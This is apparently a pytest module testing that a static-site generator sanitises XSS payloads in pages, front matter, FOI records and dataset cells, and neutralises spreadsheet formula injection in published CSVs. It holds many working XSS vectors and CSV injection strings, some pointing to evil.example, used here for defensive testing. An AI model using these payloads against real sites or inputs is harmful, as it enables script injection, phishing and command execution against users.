"""Injection: nothing a writer types reaches the site as markup, script or formula.

Known XSS payloads (OWASP cheat-sheet style) go into page bodies, front matter (title,
summary, tags, owner, attachment titles), dataset cells and FOI records. The site is
built with the real command line and every HTML, XML and SVG file written is read back
with an HTML parser: no script but the site's own, no event handler, no style, frame,
form, object or MathML, no javascript:, vbscript: or data: URL, and no writer's text
inside anything that hides it. Published CSVs neutralise formulas and keep numbers.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner
from markupsafe import escape

from opcc.cli.main import main
from opcc.datasets.publish import neutralise
from opcc.render.markdown import MarkdownRenderer

TODAY = "2026-11-25"
CANARY = "Canary"
SITE = "https://opcc.example.org/"  # base_url of the test sites  # every payload's visible text carries it: it must never be hidden

PAYLOADS = [
    "<script>alert('Canary1')</script>",
    "<img src=x onerror=alert(1)>Canary2",
    "<img src=x onerror=&#97;lert(1)>",
    "<svg onload=alert(1)>Canary3</svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<a href="javascript:alert(1)">Canary4</a>',
    '<a href="JaVaScRiPt:alert(1)">Canary5</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Canary6</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">Canary7</a>',
    '<a href="java&#x09;script:alert(1)">Canary8</a>',
    '<a href="java&#0000010;script:alert(1)">Canary9</a>',
    '<a href=" &#14; javascript:alert(1)">Canary10</a>',
    '<a href="vbscript:msgbox(1)">Canary11</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Canary12</a>',
    '<a href="data:text/html,<script>alert(1)</script>">Canary13</a>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<frameset><frame src="https://evil.example/"></frameset>',
    "<style>.app-prose{display:none}</style>",
    '<p style="display:none">Canary14</p>',
    '<div style="position:absolute;left:-9999px">Canary15</div>',
    "<div hidden>Canary16</div>",
    '<p aria-hidden="true">Canary17</p>',
    '<span class="govuk-visually-hidden">Canary18</span>',
    '<form action="https://evil.example/"><input name="password"><button>Canary19</button></form>',
    '<button formaction="javascript:alert(1)">Canary20</button>',
    '<math><mi xlink:href="javascript:alert(1)">Canary21</mi></math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">Canary22</maction></math>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<details open ontoggle=alert(1)>Canary23</details>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<img src="x" srcset="javascript:alert(1) 1x">',
    '<table background="javascript:alert(1)"><tr><td>Canary24</td></tr></table>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<a href="https://opcc.example.org/" onclick="alert(1)" style="color:red">Canary25</a>',
    '<img src="https://evil.example/x.png" style="display:none">',
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "[Canary26](javascript:alert(1))",
    "[Canary27](JAVASCRIPT:alert(1))",
    "[Canary28](<javascript:alert(1)>)",
    "[Canary29](data:text/html,<script>alert(1)</script>)",
    "![Canary30](javascript:alert(1))",
    "![Canary31](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    'Canary32 {: onclick="alert(1)" style="display:none" hidden }',
    "[Canary33][ref]\n\n[ref]: javascript:alert(1)",
    # last: an unclosed <style> is removed with the rest of the page (content.html warns)
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
]

# Front-matter values: quotes that break attributes, tags and URLs
TITLE = "Canary title \" onmouseover=\"alert(1)\" x=' <script>alert(1)</script>"
SUMMARY = "</title><script>alert(1)</script><meta http-equiv=refresh content=0;url=javascript:1>"
TAGS = ["<img src=x onerror=alert(1)>", "javascript:alert(1)", "\" autofocus onfocus=\"alert(1)"]
OWNER = "<svg onload=alert(1)>"
ATTACHMENT_TITLE = "<script>alert(1)</script>\" onclick=\"alert(1)"

# ---------------------------------------------------------------------------- the checker

FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
                  "button", "textarea", "select", "style", "base", "math", "foreignobject",
                  "portal", "noscript", "template", "xmp", "plaintext", "video", "audio",
                  "source"}
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "poster", "data", "cite",
                  "background", "xlink:href", "ping", "manifest"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")
HIDING = re.compile(r"(^|\s)(govuk-visually-hidden|hidden)(\s|$)")


def _url_is_bad(value: str) -> bool:
    text = html.unescape(value)
    text = re.sub(r"[\x00-\x20\x7f-\x9f]+", "", text).lower()  # browsers drop these
    return any(part.startswith(BAD_SCHEMES) for part in [text, *text.split(",")])


class _Checker(HTMLParser):
    """Collects every unsafe construct in one document."""

    VOID = frozenset({"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta",
            "source", "track", "wbr"})

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.stack: list[tuple[str, bool]] = []  # (tag, hides its content)

    def handle_starttag(self, tag, attrs):
        where = f"<{tag} {' '.join(f'{k}={v!r}' for k, v in attrs)}>"
        names = {name for name, _ in attrs}
        values = dict(attrs)
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"forbidden element {where}")
        if tag == "script" and not (values.get("src") or "").startswith(("/static/",
                                                                          "/pagefind/")):
            self.problems.append(f"script that is not the site's own {where}")
        if tag == "meta" and values.get("http-equiv", "").lower() not in (
                "", "content-security-policy"):
            self.problems.append(f"meta http-equiv {where}")
        if tag == "link" and (values.get("href") or "").startswith(("http:", "https:", "//")) \
                and not values["href"].startswith(SITE):
            self.problems.append(f"link to another site {where}")
        for name in names:
            if name.startswith("on"):
                self.problems.append(f"event handler {name} in {where}")
            if name in ("style", "srcdoc", "formaction"):
                self.problems.append(f"{name} attribute in {where}")
        for name, value in attrs:
            if name in URL_ATTRIBUTES and value and _url_is_bad(value):
                self.problems.append(f"dangerous URL in {where}")
        hides = "hidden" in names or values.get("aria-hidden") == "true" or \
            bool(HIDING.search(values.get("class") or ""))
        if tag not in self.VOID:
            self.stack.append((tag, hides))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag not in self.VOID and self.stack:
            self.stack.pop()

    def handle_endtag(self, tag):
        for index in range(len(self.stack) - 1, -1, -1):
            if self.stack[index][0] == tag:
                del self.stack[index:]
                break

    def handle_data(self, data):
        if CANARY in data and any(hides for _, hides in self.stack):
            self.problems.append(f"writer's text inside a hiding element: {data.strip()[:60]!r}")


def unsafe_markup(document: str) -> list[str]:
    """Everything unsafe in one HTML document (empty when it is safe)."""
    checker = _Checker()
    checker.feed(document)
    checker.close()
    return checker.problems


def site_problems(folder: Path, allowed: set[str] = frozenset()) -> dict[str, list[str]]:
    """Unsafe constructs in every page, except `allowed` ones (the site's own search form,
    filters and blank favicon, as a site without payloads has them)."""
    found = {}
    for path in sorted(folder.rglob("*")):
        if path.suffix in (".html", ".xml", ".svg") and "pagefind" not in path.parts:
            problems = [p for p in unsafe_markup(path.read_text("utf-8")) if p not in allowed]
            if problems:
                found[path.relative_to(folder).as_posix()] = problems
    return found


# ---------------------------------------------------------------------------- the site

def yaml_text(value: str) -> str:
    return json.dumps(value)  # JSON strings are YAML double-quoted strings


def hostile_page() -> str:
    body = "\n\n".join(PAYLOADS)
    return (f"---\ntitle: {yaml_text(TITLE)}\nsummary: {yaml_text(SUMMARY)}\n"
            f"class: who-we-are\npublished: 2024-01-01\nowner: {yaml_text(OWNER)}\n"
            f"tags: [{', '.join(yaml_text(t) for t in TAGS)}]\n"
            f"attachments:\n  - {{file: plan.txt, title: {yaml_text(ATTACHMENT_TITLE)}}}\n"
            f"---\n\n## Payloads\n\n{body}\n")


FOI_RECORD = f"""---
reference: FOI-2025-0042
title: {yaml_text(TITLE)}
received: 2025-03-03
responded: 2025-03-28
outcome: partially-granted
exemptions: [s43(2)]
topics: [{yaml_text(TAGS[0])}, estates]
attachments:
  - {{file: costs.csv, title: {yaml_text(ATTACHMENT_TITLE)}}}
---

## Request

<script>alert(1)</script> Please provide the cost. <a href="javascript:alert(1)">Canary40</a>
[Canary41](javascript:alert(1))

## Response

<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe> The cost was £120,000.
<p style="display:none">Canary42</p> <form action="https://evil.example/"><button>Canary43</button></form>
"""

DATASET_DESCRIPTOR = """\
title: "Spending <script>alert(1)</script>"
description: "<img src=x onerror=alert(1)> Payments over £500."
class: what-we-spend
published: 2025-06-01
resources:
  - name: spend
    path: spend.csv
    title: "<svg onload=alert(1)>"
    schema:
      fields:
        - {name: transaction, type: string, title: "<b onmouseover=alert(1)>Transaction</b>"}
        - {name: payment_date, type: date}
        - {name: expense_type, type: string}
        - {name: supplier, type: string}
        - {name: amount, type: number}
        - {name: phone_code, type: integer}
"""
CELLS = [  # (supplier cell, amount, phone_code) -> what the published CSV must hold
    ("=HYPERLINK(\"https://evil.example/\",\"Click\")", "1200.50", "44"),
    ("+cmd|' /C calc'!A0", "-20.00", "+44"),
    ("-2+3+cmd|' /C calc'!A0", "+44", "-1"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "600", "353"),
    ("\t=1+1", "700", "1"),
    ("<script>alert(1)</script>", "800", "2"),
    ("<img src=x onerror=alert(1)>", "900", "3"),
    ("\"><svg onload=alert(1)>", "1000", "4"),
    ("Acme Supplies Ltd", "1100", "5"),
]


def dataset_csv() -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["transaction", "payment_date", "expense_type", "supplier", "amount",
                     "phone_code"])
    for number, (supplier, amount, code) in enumerate(CELLS, 1):
        writer.writerow([f"T{number}", "2025-04-0" + str(number), "=1+1" if number == 1
                         else "Supplies", supplier, amount, code])
    return out.getvalue()


def built(folder: Path, files: dict[str, str]) -> Path:
    import shutil

    from tests.conftest import HOME, MINIMAL_CONFIG, REPO, WHO_INDEX, write_files

    root = folder / "site-root"
    shutil.copytree(REPO / "templates", root / "templates",
                    ignore=shutil.ignore_patterns("node_modules", "theme"))
    write_files(root, {"site.yaml": MINIMAL_CONFIG, "content/index.md": HOME,
                       "content/who-we-are/index.md": WHO_INDEX, **files})
    result = CliRunner().invoke(main, ["build", "--root", str(root), "--today", TODAY])
    assert result.exit_code == 0, result.output
    return root / "site"


def site_files(hostile: bool) -> dict[str, str]:
    """The same site with and without the payloads."""
    files = {
        "content/who-we-are/hostile.md": hostile_page(),
        "content/who-we-are/plan.txt": "The plan.\n",
        "content/foi/2025/FOI-2025-0042.md": FOI_RECORD,
        "content/foi/2025/costs.csv": "item,cost\r\nBuilding works,100000\r\n",
        "datasets/spend/datapackage.yaml": DATASET_DESCRIPTOR,
        "datasets/spend/spend.csv": dataset_csv(),
    }
    return files if hostile else {name: defused(text) for name, text in files.items()}


def defused(text: str) -> str:
    """The payloads made plain text: no tags, URLs or links (but the same structure)."""
    for old, new in (("<", "‹"), (">", "›"), ("](", "] ("), ("]:", "] :"),
                     ("{:", "{ :"), ("script:", "script-"), ("data:", "data-")):
        text = text.replace(old, new)
    return text


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    return built(tmp_path_factory.mktemp("hostile"), site_files(hostile=True))


@pytest.fixture(scope="module")
def own_constructs(tmp_path_factory) -> set[str]:
    """What the checker flags in the same site without payloads: the site's own markup."""
    folder = built(tmp_path_factory.mktemp("plain"), site_files(hostile=False))
    return {problem for problems in site_problems(folder).values() for problem in problems}


def test_no_payload_reaches_any_page_as_markup(hostile_site, own_constructs):
    assert site_problems(hostile_site, own_constructs) == {}


def test_the_site_itself_uses_only_a_few_flagged_constructs(own_constructs):
    """The allowance is small and known: the search form and the blank favicon."""
    allowed = ("forbidden element <form", "forbidden element <input",
               "forbidden element <button", "forbidden element <noscript",
               "dangerous URL in <link rel='icon' href='data:,'>")
    assert all(p.startswith(allowed) for p in own_constructs), own_constructs


def test_payload_text_is_shown_escaped_not_dropped(hostile_site):
    page = (hostile_site / "who-we-are" / "hostile" / "index.html").read_text("utf-8")
    assert str(escape(TITLE)) in page  # as Jinja escapes it, in the heading and <title>
    assert "&lt;svg onload=alert(1)&gt;" in page  # the owner, as text
    for number in (2, 4, 14, 16, 17, 18, 19, 26, 30):  # visible, not hidden, not lost
        assert f"Canary{number}" in page, number
    record = (hostile_site / "foi" / "2025" / "FOI-2025-0042" / "index.html").read_text("utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in record  # the title, as text
    for number in (40, 41, 42, 43):
        assert f"Canary{number}" in record, number


def test_the_checker_catches_each_payload_unsanitised():
    """The checker is worth trusting: every tag payload, unsanitised, is caught."""
    tags = [p for p in PAYLOADS if re.match(r"<[a-z]", p) and not p.startswith("<javascript")]
    missed = [p for p in tags if not unsafe_markup(f'<div class="hidden">{p}</div>'
                                                   if CANARY in p else p)]
    assert missed == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_body_payload_is_sanitised(payload):
    from tests.test_fuzz import fuzz_page

    rendered = MarkdownRenderer({}, lambda url: url).render(fuzz_page(payload))
    assert unsafe_markup(rendered.html) == [], rendered.html


def test_dataset_cells_are_text_on_the_page(hostile_site):
    page = (hostile_site / "datasets" / "spend" / "index.html").read_text("utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


def test_published_csv_neutralises_formulas_and_keeps_numbers(hostile_site):
    data = (hostile_site / "datasets" / "spend" / "spend.csv").read_text("utf-8")
    rows = list(csv.DictReader(io.StringIO(data)))
    assert [r["supplier"] for r in rows] == [neutralise(s) for s, _, _ in CELLS]
    assert [r["supplier"][:1] for r in rows[:5]] == ["'"] * 5
    assert rows[0]["expense_type"] == "'=1+1"
    assert [r["amount"] for r in rows] == [a for _, a, _ in CELLS]  # -20.00, +44 untouched
    assert [r["phone_code"] for r in rows] == [c for _, _, c in CELLS]
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "@", "\t")), cell
            assert not cell.startswith(("+", "-")) or re.fullmatch(r"[+-][\d.]+", cell), cell


def test_json_download_keeps_the_values_and_types(hostile_site):
    rows = json.loads((hostile_site / "datasets" / "spend" / "spend.json").read_text("utf-8"))
    assert [r["supplier"] for r in rows] == [s for s, _, _ in CELLS]
    assert rows[1]["amount"] == -20 and rows[2]["amount"] == 44
    assert rows[1]["phone_code"] == 44 and rows[2]["phone_code"] == -1


def test_foi_log_download_neutralises_a_formula_title(make_site):
    record = FOI_RECORD.replace(f"title: {yaml_text(TITLE)}",
                                'title: "=HYPERLINK(\\"https://evil.example/\\")"')
    root = make_site({"content/foi/2025/FOI-2025-0042.md": record,
                      "content/foi/2025/costs.csv": "item,cost\r\nWorks,100\r\n"})
    result = CliRunner().invoke(main, ["build", "--root", str(root), "--today", TODAY])
    assert result.exit_code == 0, result.output
    log = (root / "site" / "datasets" / "foi-disclosure-log" / "foi-disclosure-log.csv")
    [row] = list(csv.DictReader(io.StringIO(log.read_text("utf-8"))))
    assert row["title"].startswith("'=HYPERLINK(")


@pytest.mark.parametrize("cell,published", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"), ("+", "'+"),
    ("-20.00", "-20.00"), ("+44", "+44"), ("-1,200.50", "-1,200.50"), ("-1e5", "-1e5"),
    ("+44 1632 960100", "+44 1632 960100"), ("1=1", "1=1"), ("Ltd", "Ltd"), ("", ""),
])
def test_neutralise(cell, published):
    assert neutralise(cell) == published


def test_removed_elements_are_reported_to_the_writer(make_site):
    """An unclosed <style> would silently take the rest of the page: the writer is told."""
    text = ("---\ntitle: Plan\nsummary: Our plan.\nclass: priorities\npublished: 2024-01-01\n"
            "---\n`<iframe>` in code is fine.\n\n<script>x()</script>\n\n"
            "<style>p {display: none}\n\nThe rest.\n")
    root = make_site({"content/priorities/plan.md": text})
    result = CliRunner().invoke(main, ["check", "--root", str(root), "--format", "json",
                                       "--today", TODAY])
    found = [(d["code"], d["line"], d["column"], d["message"].split(" element")[0])
             for d in json.loads(result.stdout)["diagnostics"] if d["code"] == "content.html"]
    assert found == [("content.html", 9, 1, "the <script>"), ("content.html", 11, 1, "the <style>")]
